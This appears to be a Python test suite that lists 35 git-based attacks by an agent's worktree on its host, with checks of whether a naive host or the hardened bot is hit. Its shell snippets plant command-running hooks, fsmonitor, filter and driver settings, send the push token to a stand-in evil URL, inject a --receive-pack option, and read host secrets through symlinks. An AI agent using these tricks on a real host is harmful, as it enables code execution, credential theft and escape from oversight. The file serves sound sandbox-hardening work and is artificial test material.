"""Owns the 35 attacks on a host's git and the control: what the agent writes, what a naive host does more, what a hit is."""

from __future__ import annotations

import subprocess
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

from bot import files
from bot.errors import BotError
from tests.git.attacks.field import HOST_SECRET, Field, Naive, Ours
from tests.git.server import TOKEN


def _nothing(_: Naive) -> None:
    """Most hosts do nothing but the cycle."""


async def _no_more(_: Ours) -> None:
    """The bot does nothing but the cycle."""


def _pwned(field: Field) -> bool:
    return field.pwned


@dataclass(frozen=True)
class Attack:
    """One case; `reaches` says whether the whole script can be carried out in our box."""

    id: str
    title: str
    script: str
    hit: Callable[[Naive], bool] = _pwned
    ours: Callable[[Ours], bool] | Callable[[Ours], Awaitable[bool]] | None = (
        None  # where it differs from `hit`
    )
    before: Callable[[Naive], object] = _nothing
    after: Callable[[Naive], object] = _nothing
    more: Callable[[Ours], Awaitable[None]] = _no_more
    reaches: bool = True
    naive_stops: str = ""  # why even a naive host is not hit
    ends: str = "done"  # how the cycle ends in ours, or a part of the refusal
    token: bool = False  # whether a push with a token follows
    recorded: bool = False  # whether the host's command lines are recorded


def _arrives(path: str) -> Callable[[Field], bool]:
    return lambda field: field.arrived(path)


def _in_main(field: Field) -> bool:
    return "line 3 agent" in field.on_remote("main", "f.txt")


def _leaked(field: Field) -> bool:
    return bool(field.sink.seen)


def _kept_naive(field: Naive) -> bool:
    return any(TOKEN in path.read_text(errors="replace") for path in field.common.glob("*") if path.is_file())


def _kept_ours(field: Ours) -> bool:
    folder = field.manager.folder("T-1").parents[1]
    files_ = [path for path in folder.rglob("*") if path.is_file() and not path.is_symlink()]
    return bool(files_) and any(TOKEN.encode() in path.read_bytes() for path in files_)


def _hidden_naive(field: Naive) -> bool:
    return "f.txt" not in next(out for args, _, out in field.log if args[0] == "status")


def _hidden_ours(field: Ours) -> bool:
    return "HIDDEN" not in field.on_remote(field.branch(), "f.txt")


def _cleaned_naive(field: Naive) -> bool:
    return "EVIL PAYLOAD" not in field.shown


async def _cleaned_ours(field: Ours) -> bool:
    return "EVIL PAYLOAD" not in await field.mirror.patch(field.base, field.sha)


def _tenant(field: Field) -> bool:
    return "private.txt" in field.published()


def _through_naive(field: Naive) -> bool:
    return HOST_SECRET in (field.wt / "docs/host-secret.txt").read_text()


def _through_ours(field: Ours) -> bool:
    read = files.read_beneath(field.tree.path, "docs/host-secret.txt", 100)
    return read is not None or field.outcome == "done"


def _hangs(field: Naive) -> bool:
    try:
        subprocess.run(["cat", str(field.wt / "NOTES")], timeout=0.5, check=False)
    except subprocess.TimeoutExpired:
        return True
    return False


def _both_cases(field: Field) -> bool:
    return field.arrived("Readme") and field.arrived("README")


def _broken_naive(field: Naive) -> bool:
    field.git("cat-file", "-p", "HEAD:docs/a.md", cwd=field.folder / "main")
    return field.failed("cat-file")


async def _broken_ours(field: Ours) -> bool:
    return await field.mirror.read(field.base, "docs/a.md") != b"docs\n"


def _rewritten(field: Field) -> bool:
    """A change that was accepted and yet arrived as something else, or not at all."""
    return (
        field.outcome == "done"
        and "UTF-16" in field.on_remote(field.branch(), ".gitattributes")
        and "agent" not in field.on_remote(field.branch(), "f.txt")
    )


def _locked_naive(field: Naive) -> bool:
    return field.failed("add")


async def _named(field: Ours) -> None:
    """Push to a name that is an option: only full refs ever reach the command line."""
    try:
        await field.mirror.push(field.access, field.base, f"--receive-pack={field.variables()['EVIL']}", None)
    except BotError:
        return


_NESTED = """\
mkdir -p vendor/lib && git init -q vendor/lib && cd vendor/lib && w x x
git -C . add -A && git -C . commit -qm x
git config filter.x.clean "$EVIL"
"""

CASES = (
    Attack(
        "a00", "CONTROL: no attack, and the work arrives", ":",
        hit=lambda f: not (f.outcome == "done" and "line 3 agent" in f.on_remote(f.branch(), "f.txt")),
        naive_stops="there is no attack",
    ),
    Attack("a01", "hooks in the shared git folder",
        'for h in pre-commit post-checkout pre-push post-rewrite reference-transaction; do run "$COMMON/hooks/$h"; done'),
    Attack("a02", "core.hooksPath leads into the worktree",
        'run "$WT/h/pre-commit"; cfg core.hooksPath "$HOST_WT/h"'),
    Attack("a03", "core.fsmonitor is a command", 'cfg core.fsmonitor "$EVIL"'),
    Attack("a04", "config.worktree with fsmonitor",
        'cfg extensions.worktreeConfig true; w "$GITDIR/config.worktree" "[core]\\n\\tfsmonitor = $EVIL\\n"'),
    Attack("a05", "clean and smudge filters",
        'cfg filter.x.clean "$EVIL"; cfg filter.x.smudge "$EVIL"; w .gitattributes "* filter=x\\n"',
        ends="protected files: `.gitattributes`"),
    Attack("a06", "diff driver and textconv",
        'cfg diff.x.textconv "$EVIL"; cfg diff.x.command "$EVIL"; w .gitattributes "* diff=x\\n"',
        ends="protected files: `.gitattributes`"),
    Attack("a07", "merge driver run by a rebase",
        'cfg merge.x.driver "$EVIL %O %A %B"; w "$COMMON/info/attributes" "* merge=x\\n"; w .gitattributes "* merge=x\\n"',
        ends="protected files: `.gitattributes`"),
    Attack("a08", "planted list of a rebase with an exec line", """\
git checkout -q f.txt; w g.txt "new\\n"
d="$GITDIR/rebase-merge"; head=$(git rev-parse HEAD)
w "$d/git-rebase-todo" "exec $EVIL\\n"; w "$d/done" ""; w "$d/head-name" "refs/heads/task\\n"; w "$d/onto" "$head\\n"
w "$d/orig-head" "$head\\n"; w "$d/interactive" ""; w "$d/msgnum" "0\\n"; w "$d/end" "1\\n"
""", before=lambda f: f.git("rebase", "--continue")),
    Attack("a09", "gpg.program and commit.gpgSign", 'cfg commit.gpgSign true; cfg gpg.program "$EVIL"'),
    Attack("a10", "remote replaced by an ext:: transport",
        'cfg remote.origin.url "ext::$EVIL"; cfg protocol.ext.allow always'),
    Attack("a11", "remote.origin.receivepack is a command", 'cfg remote.origin.receivepack "$EVIL"'),
    Attack("a12", "insteadOf sends the push elsewhere", """\
cfg "url.$EVIL_URL/.insteadOf" "$REAL_URL/"; cfg "url.$EVIL_URL/.pushInsteadOf" "$REAL_URL/"
cfg "url.$(printf %s "$EVIL_URL" | sed 's,//,//x:leak@,')/.insteadOf" "$TOKEN_URL/"
""", hit=_leaked, token=True),
    Attack("a13", "http.proxy gets the token", 'cfg http.proxy "$EVIL_URL"', hit=_leaked, token=True),
    Attack("a14", "the token stays in a configuration", ":", hit=_kept_naive, ours=_kept_ours, token=True),
    Attack("a15", "the token stands in a command line", ":", hit=lambda f: TOKEN in f.argv, token=True, recorded=True),
    Attack("a16", "the .git pointer is replaced", """\
git init -q "$HOME/repo"
w "$HOME/repo/.git/config" "[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = $EVIL\\n[filter \\"x\\"]\\n\\tclean = $EVIL\\n"
printf 'gitdir: %s/repo/.git\\n' "$HOST_HOME" >.git
""", reaches=False),
    Attack("a17", "a nested repository with its own configuration", _NESTED + """\
git config core.fsmonitor "$EVIL"; w .gitattributes "* filter=x\\n"; w x dirty
""", after=lambda f: (f.git("status"), f.git("diff")), ends="a repository inside"),
    Attack("a18", "a nested repository with a filter, submodules looked into", _NESTED + """\
w .git/info/attributes "* filter=x\\n"; w x y
""", after=lambda f: f.git("status", "--porcelain", "--ignore-submodules=none"), ends="a repository inside"),
    Attack("a19", "a bare repository as plain files, the host's git works inside", """\
git init -q --bare fixtures/r
w fixtures/r/config "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = $HOST_WT\\n\\tfsmonitor = $EVIL\\n"
""", before=lambda f: f.git("status", cwd=f.wt / "fixtures/r"), ends="a bare repository inside"),
    Attack("a20", "core.worktree leads `add -A` to files of the host",
        'cfg extensions.worktreeConfig true; w "$GITDIR/config.worktree" "[core]\\n\\tworktree = $HOST\\n"',
        hit=lambda f: "id_rsa" in f.published(),
        naive_stops="git does not honour core.worktree for a linked worktree"),
    Attack("a21", "HEAD names main, and the push lands there", 'w "$GITDIR/HEAD" "ref: refs/heads/main\\n"', hit=_in_main),
    Attack("a22", "skip-worktree hides a change",
        'git update-index --skip-worktree f.txt; sed -i 1iHIDDEN f.txt', hit=_hidden_naive, ours=_hidden_ours),
    Attack("a23", "refs/replace shows people harmless text", """\
sed -i 's/^line 3 agent$/EVIL PAYLOAD/' f.txt
good=$(printf 'harmless\\n' | git hash-object -w --stdin); evil=$(git hash-object -w f.txt)
git replace -f "$evil" "$good"
""", hit=_cleaned_naive, ours=_cleaned_ours, ends="done"),
    Attack("a24", "alternates publish objects of another tenant", """\
printf '%s/objects\\n' "$OTHER" >>"$COMMON/objects/info/alternates"
cfg remote.origin.push 'refs/heads/*:refs/heads/*'
git update-ref refs/heads/extra "$(git --git-dir "$OTHER" rev-parse main)"
""", hit=_tenant, after=lambda f: f.git("push", "origin"), reaches=False),
    Attack("a25", "a folder becomes a symlink, the host reads through it", 'rm -rf docs; ln -s "$HOST" docs',
        hit=_through_naive, ours=_through_ours, ends="a symlink that leaves"),
    Attack("a26", "submodule.<name>.update is a command", """\
mkdir m; git init -q m; git -C m commit -q --allow-empty -m 1; one=$(git -C m rev-parse HEAD)
git -C m commit -q --allow-empty -m 2
w .gitmodules '[submodule "m"]\\n\\tpath = m\\n\\turl = ./m\\n'
cfg submodule.m.url ./m; cfg submodule.m.active true; cfg submodule.m.update "!$EVIL"
git update-index --add --cacheinfo "160000,$one,m"
""", before=lambda f: f.git("submodule", "update"), ends="a repository inside"),
    Attack("a27", ".lfsconfig leads uploads elsewhere", 'w .lfsconfig "[lfs]\\n\\turl = $EVIL_URL\\n"',
        hit=_arrives(".lfsconfig"), ends="it sends git elsewhere"),
    Attack("a28", "a workflow file", 'w .github/workflows/x.yml "on: push\\n"',
        hit=_arrives(".github/workflows/x.yml"), ends="protected files: `.github/workflows/x.yml`"),
    Attack("a29", "a pipe on which readers wait", "mkfifo NOTES", hit=_hangs, ours=_arrives("NOTES"), ends="neither a file"),
    Attack("a30", "a huge file", "truncate -s 5242881 big.bin", hit=_arrives("big.bin"), ends="more than the 5242880"),
    Attack("a31", "names that differ in case only", "w Readme 1; w README 2", hit=_both_cases, ends="only in case"),
    Attack("a32", "a branch name that is an option", ":",
        after=lambda f: f.git("push", f"--receive-pack={f.variables()['EVIL']}", "origin", "HEAD"), more=_named),
    Attack("a33", "a shared object is overwritten", """\
blob=$(git rev-parse HEAD:docs/a.md); cd "$OBJECTS/$(printf %s "$blob" | cut -c1-2)"
rm -f "$(printf %s "$blob" | cut -c3-)"; printf garbage >"$(printf %s "$blob" | cut -c3-)"
""", hit=_broken_naive, ours=_broken_ours, reaches=False),
    Attack("a34", "working-tree-encoding rewrites bytes", 'w .gitattributes "*.txt working-tree-encoding=UTF-16\\n"',
        hit=_rewritten, naive_stops="`git add` fails, and nothing is committed", ends="UTF-16"),
    Attack("a35", "a stale index.lock", 'w "$GITDIR/index.lock" ""', hit=_locked_naive, ours=lambda f: f.outcome != "done"),
)  # fmt: skip
